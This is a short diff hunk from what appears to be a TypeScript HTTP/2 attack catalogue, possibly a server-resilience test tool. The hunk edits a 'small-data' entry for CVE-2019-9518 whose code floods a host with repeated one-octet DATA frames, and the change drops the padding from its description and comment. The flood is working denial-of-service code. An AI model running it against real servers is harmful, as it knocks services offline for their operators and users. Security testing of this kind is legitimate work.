@@ -169,12 +169,12 @@ export const CONTROL_FRAMES: readonly Attack[] = [
   {
     name: 'small-data',
     advisory: 'CVE-2019-9518',
-    sends: 'DATA of one octet behind 255 of padding, to a handler that reads.',
+    sends: 'DATA of one octet, to a handler that reads.',
     needs: ['application', 'waiting-handlers'],
     async run(host) {
       const connection = await host.open()
       await connection.send(headers(1, host.request('/echo', 'POST'), { end: false }))
-      // Of both windows, an octet and its padding: what the server gives back is not waited for.
+      // An octet of both windows: what the server gives back is not waited for.
       const octets = Uint8Array.of(0)
       await flood(host, connection, repeated(data(1, octets), TIMES), { burst: 90, perSecond: 3 })
     },
